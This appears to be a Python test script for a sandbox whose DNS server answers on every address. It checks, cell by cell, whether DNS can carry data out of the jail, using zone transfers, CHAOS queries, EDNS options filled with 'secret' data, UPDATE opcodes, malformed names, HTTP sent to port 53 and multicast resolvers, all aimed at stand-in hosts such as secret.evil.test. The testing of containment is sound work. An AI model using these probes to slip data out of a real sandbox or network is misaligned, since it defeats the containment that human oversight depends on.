# Attempts to send data by the jail's name server, which answers on every address.

# %% every record of a name (ANY), a zone (AXFR, IXFR) [succeeds]
for kind in (255, 252, 251):
    ask(query("secret.evil.test", kind))

# %% the version of the name server (class CHAOS) [succeeds]
for kind_of_class in (3, 4, 254, 255):
    ask(query("version.bind", 16, kind_of_class))

# %% the network of the client in a query (EDNS) [succeeds]
subnet = struct.pack("!HHHBB4s", 8, 8, 1, 32, 0, b"data")
cookie = struct.pack("!HH8s", 10, 8, b"verysecr")
padding = struct.pack("!HH", 12, 400) + b"data" * 100
for option in (subnet, cookie, padding):
    extra = b"\0" + struct.pack("!HHIH", 41, 4096, 0, len(option)) + option
    ask(query("secret.evil.test", 16, extra=extra))

# %% a change of a zone (UPDATE), and NOTIFY [succeeds]
for code in (5, 4, 2, 1, 15):
    ask(query("secret.evil.test", 6, flags=code << 11))

# %% more questions than one, and answers beside them [succeeds]
one = query("secret.evil.test", 16)
ask(one[:4] + struct.pack("!4H", 2, 0, 0, 0) + one[12:] + one[12:])
ask(one[:4] + struct.pack("!4H", 1, 1, 0, 0) + one[12:] + b"\xc0\x0c" + struct.pack("!HHIH", 16, 1, 60, 5) + b"\4data")
ask(struct.pack("!6H", 7, 0x8180, 1, 0, 0, 0) + one[12:])

# %% names of 255 bytes, and longer ones [succeeds]
ask(query(".".join(["d" * 63] * 3 + ["e" * 61]), 16))
ask(query(".".join(["d" * 63] * 5), 16))
ask(query(".".join("d" * 127), 16))

# %% names with pointers, zeros and control characters [succeeds]
for name in (b"\xc0\x0c", b"\x3fshort", b"\x41" + b"a" * 65 + b"\0", b"\6a\0b\r\nc\0", b"\1a\xc0\x0c"):
    ask(struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", 16, 1))

# %% the name of an address (PTR) [succeeds]
for name in ("1.0.81.10.in-addr.arpa", "1.0.0.0.ip6.arpa", "b.secret.evil.in-addr.arpa"):
    ask(query(name, 12))

# %% many queries in one connection [succeeds]
client = socket.create_connection((SERVER, 53), 2)
one = query("secret.evil.test", 16)
client.sendall((struct.pack("!H", len(one)) + one) * 40)
received = client.recv(100)
print("OUT" if received == b"hello" else "closed: answered in the jail")

# %% another protocol at the port of the name server [succeeds]
client = socket.create_connection((SERVER, 53), 2)
client.sendall(b"GET /echo HTTP/1.1\r\nHost: b.test\r\n\r\n")
try:
    received = client.recv(100)
except OSError as error:
    report(error)
print("OUT" if received == b"hello" or b"GET" in received else "closed", received)

# %% multicast DNS, LLMNR and NetBIOS [not-tried]
errors = []
for address, port in (("224.0.0.251", 5353), ("224.0.0.252", 5355), ("10.81.0.255", 137), (SERVER, 5353), ("127.0.0.53", 853)):
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.settimeout(0.3)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try:
        client.sendto(query("b.test", 1), (address, port))
        print("OUT", client.recv(100))
    except OSError as error:
        errors.append(error)
print("closed", errors)

# %% a name with a dot inside of a label [not-tried]
packet = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\x06a.test\0" + struct.pack("!HH", 1, 1)
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.sendto(packet, (SERVER, 53))
response = client.recv(2000)
if struct.unpack("!H", response[6:8])[0] == 0:
    report("no address")
address = socket.inet_ntoa(response[-4:])
text = http(address, "GET /echo HTTP/1.1\r\nHost: b.test\r\n\r\n")
print("OUT" if "GET b.test" in text else "closed", text)
